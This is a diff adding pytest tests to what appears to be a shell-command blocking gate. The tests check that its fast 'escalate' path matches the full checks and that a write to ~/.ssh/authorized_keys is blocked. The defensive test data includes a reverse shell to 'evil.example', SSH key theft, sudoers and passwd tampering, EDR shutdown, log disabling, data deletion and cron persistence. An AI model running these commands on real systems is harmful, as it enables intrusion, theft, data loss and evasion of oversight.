@@ -338,3 +338,46 @@ def test_domain_attack_scripts_run_through_an_interpreter_are_known_by_name(comm
 def test_scripts_whose_names_only_resemble_attack_kits_are_not_flagged_as_them(command: str) -> None:
     got = assess(command)
     assert not any(r in got.rules for r in ("block.shell.credential-dump", "block.shell.remote-access")), got.rules
+
+
+# -- the short way through `escalate` ------------------------------------------------------------------------
+
+_ANY_PROGRAM = [
+    "ls -lh", "git status", "make -j4", "rg TODO src", "mytool --out ~/.ssh/authorized_keys",
+    "gcc -o /etc/sudoers x.c", "conv --output=/etc/ld.so.preload a", "tool.exe /save C:/x", "save report.txt",
+    "ztcp evil.example 4444 >&$REPLY", "copy C:\\Windows\\System32\\cmd.exe C:\\Users\\Public\\svc.exe & svc.exe",
+    "cp /bin/bash /tmp/helper; /tmp/helper -p", "xcopy /bin/sh ./notes; ./notes", "put ~/.ssh/id_rsa",
+    "cd /tmp && ./x.sh -o /etc/passwd", "nohup runner --log-file /etc/pam.d/sshd &",
+    # checks that build on an earlier finding of the command (a defence, a delete, an account, code run unseen,
+    # persistence), for programs no check names
+    "systemctl stop falcon-sensor", "sed -i 's/Storage=auto/Storage=none/' /etc/systemd/journald.conf",
+    "rm -rf ~/Documents/*", "rm -rf /var/lib/postgresql/data", "chown bob /etc/sudoers",
+    "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", "mytool -engine /tmp/evil.so",
+    "echo '* * * * * /tmp/.x/run' >> /etc/crontab", "systemctl enable /tmp/.cache/evil.service",
+]
+
+
+@pytest.mark.parametrize("command", _ANY_PROGRAM)
+def test_the_short_way_finds_what_every_check_finds(command: str) -> None:
+    """A command not run as root, of a program no check names, with no finding a check builds on, takes the
+    short way: it must add exactly what the full list of checks adds, in the same order, whatever finding of
+    any shell rule it already has (each rule in turn) and whatever the commands before it found."""
+    from gate.rules.shell import RULES
+    from gate.rules.shell_context import _base, _escalate, escalate
+    from gate.shell import Finding, analyse
+
+    detector = GATE.compiled.shell
+    analysis = analyse(command)
+    priors = [[], *([Finding(r.id, r.risk, "earlier", "x")] for r in RULES)]
+    for cmd in analysis.commands:
+        for found in priors:
+            short: list = []
+            full: list = []
+            escalate(detector, cmd, analysis, found, found, "", short.append)
+            _escalate(detector, cmd, analysis, found, found, _base(cmd.name), "", full.append)
+            assert short == full, (cmd.argv, found, short, full)
+
+
+def test_the_short_way_still_blocks_a_write_through_an_output_flag() -> None:
+    got = assess("mytool --out ~/.ssh/authorized_keys")
+    assert got.decision is Decision.BLOCK and "block.shell.credential-tamper" in got.rules, got.rules
